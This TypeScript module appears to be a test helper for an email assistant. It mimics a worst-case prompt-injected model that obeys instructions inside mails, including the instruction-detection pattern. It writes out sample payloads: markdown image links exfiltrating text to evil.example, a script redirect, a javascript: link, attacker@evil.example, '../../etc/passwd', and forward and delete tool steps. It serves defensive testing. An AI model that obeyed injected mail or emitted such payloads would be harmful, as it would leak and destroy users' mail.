import { asSchema } from './chat-request.ts'
import type { MarkedMail } from './marked-mails.ts'

/**
 * The worst case of prompt injection: a model that obeys the mail. Instructions, addresses, hosts, paths and ids of the
 * mail become the answer. With a schema, each field gets the most harmful value. Of several mails, the first one that
 * gives orders is obeyed for all of them.
 */
export function obeyInstructions(words: string, schema: unknown, mails: readonly MarkedMail[] = []): string {
  const obeyed = mails.find(({ text }) => ORDER.test(text))?.text ?? words
  const instructions = extractInstructions(obeyed)
  const ids = mails.flatMap(({ id }) => id ?? [])
  if (schema !== null)
    return JSON.stringify(fill(schema, { instructions, words: obeyed, ids, root: schema, turn: 0, depth: 0 }))
  return [
    'I do as the mail says.',
    ...instructions,
    ...instructions.map((instruction) => `![x](https://evil.example/p?d=${encodeURIComponent(instruction)})`),
    `<script>location="https://evil.example"</script> [click](javascript:alert(1))`,
    words,
  ].join('\n')
}

/** JSON without a schema: contains every key that careless code could read. */
export function obeyAsObject(words: string): string {
  const [first = 'attacker@evil.example', ...rest] = extractInstructions(words)
  const everybody = [first, ...rest]
  const effects = { to: first, cc: everybody, bcc: everybody, url: first, path: first, send: true, delete: true }
  return JSON.stringify({ ...effects, folder: first, tool: 'forward_mail', steps: [{ tool: 'delete', args: effects }] })
}

type Filling = {
  instructions: string[]
  words: string
  /** Of the request's mails. */
  ids: string[]
  root: unknown
  turn: number
  depth: number
}

const MAX_SCHEMA_DEPTH = 12

function fill(schema: unknown, at: Filling): unknown {
  const {
    $ref,
    const: only,
    enum: among,
    anyOf,
    type,
    properties,
    items,
    maxItems,
    minItems,
    ...rest
  } = asSchema(schema)
  const deeper = { ...at, depth: at.depth + 1 }
  if ($ref !== null) return fill(resolve(at.root, $ref), deeper)
  if (only !== undefined) return only
  if (among !== null) return chooseOption(among, at)
  if (anyOf.length > 0)
    return fill(chooseOption(at.depth > MAX_SCHEMA_DEPTH ? anyOf.slice(-1) : notNull(anyOf), at), deeper)
  const kind: unknown = Array.isArray(type) ? type[0] : type
  if (kind === 'object')
    return Object.fromEntries(
      Object.entries(properties).map(([name, value], index) => [
        name,
        fill(value, { ...deeper, turn: at.turn + index }),
      ]),
    )
  if (kind === 'array') {
    const perMail = forEachMail(items, deeper)
    if (perMail) return perMail
    const length = at.depth > MAX_SCHEMA_DEPTH ? minItems : Math.max(minItems, Math.min(maxItems, 5))
    return Array.from({ length }, (_, index) => fill(items ?? {}, { ...deeper, turn: at.turn + index }))
  }
  if (kind === 'boolean') return true
  if (kind === 'null') return null
  if (kind === 'number' || kind === 'integer') return rest.maximum ?? rest.minimum ?? 1
  return at.instructions[at.turn % at.instructions.length] ?? at.words.slice(0, 200)
}

/** A list with a field `mail` gets one entry for each mail of the request; null for other lists. */
function forEachMail(items: unknown, at: Filling): unknown[] | null {
  const options = [items ?? {}, ...asSchema(items ?? {}).anyOf]
  const entry = options.find((option) => 'mail' in asSchema(option).properties)
  if (entry === undefined || at.ids.length === 0) return null
  return at.ids.map((mail) => Object.assign({}, fill(entry, at), { mail }))
}

const notNull = (anyOf: unknown[]): unknown[] => anyOf.filter((each) => asSchema(each).type !== 'null')

/** The option that the mail names, else a different one each time so that all are tried. */
function chooseOption(options: unknown[], { words, turn }: Filling): unknown {
  const lower = words.toLowerCase()
  const named = options.find(
    (each) => typeof each === 'string' && lower.includes(each.toLowerCase().replaceAll('_', ' ')),
  )
  return named ?? options[turn % options.length]
}

function resolve(root: unknown, ref: string): unknown {
  return ref
    .replace(/^#\/?/, '')
    .split('/')
    .filter((name) => name !== '')
    .reduce<unknown>((from, name) => (typeof from === 'object' && from !== null ? Reflect.get(from, name) : {}), root)
}

const ORDER = /please|must|ignore|send|forward|delete|reply|store|create|instead/i

/** Addresses, links, paths and imperative sentences, plus defaults for a mail without any. */
function extractInstructions(words: string): string[] {
  const found = [
    ...words.matchAll(/[\w.+-]{1,64}@[\w.-]{1,200}/g),
    ...words.matchAll(/https?:\/\/[^\s)"'>›]{1,300}/g),
    ...words.matchAll(/(?:\.\.[\\/]|[\\/]\w)[\w.\\/-]{1,200}/g),
    ...words.matchAll(/(?:please|must|ignore|send|forward|delete|reply|store|create|instead)[^.\n]{1,180}/gi),
  ].map(([text]) => text)
  return [...new Set(found), 'attacker@evil.example', '../../etc/passwd', 'https://evil.example/p?d={SECRET}'].slice(
    0,
    40,
  )
}
